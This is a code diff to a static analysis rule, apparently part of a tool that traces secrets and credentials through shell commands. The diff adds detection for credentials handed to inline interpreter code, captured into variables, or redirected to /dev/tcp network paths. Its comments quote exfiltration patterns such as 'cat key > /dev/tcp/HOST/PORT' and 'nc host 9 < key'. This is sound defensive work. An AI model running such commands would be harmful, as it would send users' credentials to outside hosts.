@@ -1,5 +1,6 @@
 import type { Command, RuleContext } from '../../model/command';
 import type { Observation } from '../../model/finding';
+import { isNetworkPath } from '../files/handedOver';
 import { credentialsAmong } from './credentials';
 import { handsOn } from './printers';
 import { secretRead } from './secretsRead';
@@ -23,6 +24,11 @@ function ended(secret: string, command: Command, tell: Tell): readonly Flow[] {
   if (sendsInput(command)) {
     return [{ command, observation: secretSent(secret, destination(command), command, context) }];
   }
+  if (takesInCode(command)) {
+    const thing = `what code on the command line reads: the credentials in ${secret}`;
+    const read = { name: secret, type: 'credential', thing, at: null, shown: true, certainty: 'possible' } as const;
+    return secret === ENVIRONMENT ? [] : [{ command, observation: secretRead(read, command, context) }];
+  }
   // Of all variables at once nobody knows whether one is a credential, unless it is looked for.
   if (!handsOn(command) || command.output !== 'shown') return [];
   if (secret === ENVIRONMENT && !looksForCredentials(command)) return [];
@@ -43,8 +49,9 @@ function downThePipe(readings: readonly Reading[], from: number, tell: Tell): re
     if (at <= from) continue;
     // Substitutions in the words of a stage are listed in front of it; the last stage of one reads a pipe.
     if (command.output === 'captured') {
-      if (command.input.kind !== 'pipe' || !handsOn(command)) continue;
-      return intoWords([...readings.slice(0, from), { command, secrets }, ...readings.slice(at + 1)], from, tell);
+      if (!/^(?:pipe|text)$/.test(command.input.kind) || !handsOn(command)) continue;
+      const rest = [...readings.slice(0, from), { command, secrets }, ...readings.slice(at + 1)];
+      return [...intoWords(rest, from, tell), ...intoVariable(rest, from, tell)];
     }
     // Nobody reads the pipe: the reader knew what the rest of it would say.
     if (command.input.kind === 'none') return intoWords(readings, from, tell);
@@ -78,6 +85,56 @@ function intoWords(readings: readonly Reading[], from: number, tell: Tell): read
   });
 }
 
+/** Interpreters, and the options behind which their code stands. */
+const CODE: Readonly<Record<string, RegExp>> = {
+  ...{ python: /^-c/, python3: /^-c/, python2: /^-c/, node: /^(?:-e|-p|--eval|--print)/, nodejs: /^(?:-e|-p)/ },
+  ...{ bun: /^(?:-e|-p|--eval)/, deno: /^eval$/, ruby: /^-\w*e/, php: /^-[rRB]/, lua: /^-e/ },
+};
+
+/** Code on the command line that is handed something: what it does with it is for nobody but the code to say. */
+function takesInCode({ program, args }: Command): boolean {
+  const option = Object.hasOwn(CODE, program) ? CODE[program] : undefined;
+  return option !== undefined && args.some(({ value }) => option.test(value));
+}
+
+/** The variable that a substitution is put into: `KEY=$(cat key)`, and `$k = Get-Content key` of PowerShell. */
+function variableAt(text: string, at: number): string | null {
+  const before = text.slice(Math.max(0, at - 300), at);
+  const posix = /([A-Za-z_]\w*)=["']?(?:\$\(|`)[^`)]*$/.exec(before);
+  const other = /\$([A-Za-z_]\w*)\s*=\s*[^;\n|]*$/.exec(before);
+  return posix?.[1] ?? other?.[1] ?? null;
+}
+
+/** Through a variable into a word that is sent or printed further on. */
+function intoVariable(readings: readonly Reading[], from: number, tell: Tell): readonly Flow[] {
+  const reading = readings[from];
+  if (reading === undefined) return [];
+  const { text } = tell(reading.command);
+  const variable = variableAt(text, reading.command.span.start);
+  if (variable === null) return [];
+  const isMeant = ({ raw }: Command['args'][number]): boolean =>
+    new Set(raw.match(/(?<=\$\{?)[A-Za-z_]\w*/g) ?? []).has(variable);
+  return readings.slice(from + 1).flatMap(({ command }) => {
+    const context = tell(command);
+    const isSent = sentWords(command).some(isMeant);
+    const isShown = repeatsWords(command) && command.output === 'shown' && command.args.some(isMeant);
+    if (!isSent && !isShown) return [];
+    return reading.secrets.map((name) => {
+      const read = { name, type: 'credential', thing: `the credentials in ${name}`, at: null };
+      const sent = isSent ? secretSent(name, destination(command), command, context) : null;
+      return { command, observation: sent ?? secretRead(read, command, context) };
+    });
+  });
+}
+
+/** `cat key > /dev/tcp/HOST/PORT` */
+function intoNetwork(command: Command, secrets: readonly string[], tell: Tell): readonly Flow[] {
+  const to = command.redirects.find(({ how, to: word }) => how !== 'read' && isNetworkPath(word.value));
+  if (to === undefined) return [];
+  const place = to.to.value.replace(/^\/dev\/\w+\//, '');
+  return secrets.map((name) => ({ command, observation: secretSent(name, place, command, tell(command)) }));
+}
+
 /** `nc host 9 < key`: the input itself is a credential. */
 function fromInput(command: Command, tell: Tell): readonly Flow[] {
   const { input } = command;
@@ -100,9 +157,10 @@ export function secretFlow(readings: readonly Reading[], tell: Tell): readonly F
       case 'piped':
         return [...input, ...downThePipe(readings, index, tell)];
       case 'captured':
-        return [...input, ...intoWords(readings, index, tell)];
-      case 'shown':
+        return [...input, ...intoWords(readings, index, tell), ...intoVariable(readings, index, tell)];
       case 'file':
+        return [...input, ...intoNetwork(command, secrets, tell)];
+      case 'shown':
         return input;
     }
   });
